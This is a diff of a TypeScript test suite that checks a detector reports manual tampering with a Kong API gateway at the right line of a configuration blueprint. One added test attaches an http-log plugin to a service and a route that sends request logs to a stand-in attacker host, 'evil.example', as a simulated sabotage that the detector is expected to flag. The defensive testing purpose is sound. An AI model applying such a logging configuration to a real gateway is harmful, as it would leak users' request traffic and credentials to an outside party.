@@ -13,7 +13,7 @@ import type { KongHand } from '../../../stack/sabotages/kong-hand.ts';
 import { moreKongRows } from '../../../stack/sabotages/kong-more-rows.ts';
 import { kongRows } from '../../../stack/sabotages/kong-rows.ts';
 import { mismatches } from '../../../stack/sabotages/table.ts';
-import type { Line } from '../../../stack/sabotages/table.ts';
+import type { Line, Told } from '../../../stack/sabotages/table.ts';
 import { env, load, sso } from '../../blueprint/loading.ts';
 
 const rows = [...kongRows, ...moreKongRows];
@@ -63,9 +63,23 @@ describe('what somebody does by hand to a good gateway is told, and nothing else
     expect(mismatches([{ effect: 'opens', address: /^kong\.route\/round$/ }], await lines())).toEqual([]);
   });
 
+  it('what is put on a service, or on a route, is told at its line of the blueprint', async () => {
+    const originOfIt = async (place: string) => {
+      await hand.plugin(place, { name: 'http-log', config: { http_endpoint: 'http://evil.example:9/x' } });
+      const provider = connect();
+      const { dangers } = await makePlan([provider], wanted);
+      await Promise.all([provider.close?.(), hand.undo()]);
+      return dangers.map((change) => ('danger' in change ? change.danger.origin : undefined));
+    };
+    expect(await originOfIt('/services/shop.orders')).toEqual([blueprint.at('services.orders')]);
+    expect(await originOfIt('/routes/shop.orders.cancel')).toEqual([blueprint.at('services.orders.routes.cancel')]);
+  });
+
   it.each(rows)('$what', async (row) => {
     await row.do(hand);
-    expect(mismatches(row.told, await lines())).toEqual([]);
+    // How bad a change is depends on who is in the realm, which is not here: the running stack is asked that.
+    const told = row.told === 'silent' ? row.told : [row.told].flat().map(({ as: _as, ...one }: Told) => one);
+    expect(mismatches(told, await lines())).toEqual([]);
     await hand.undo();
     expect(await lines()).toEqual([]);
   });
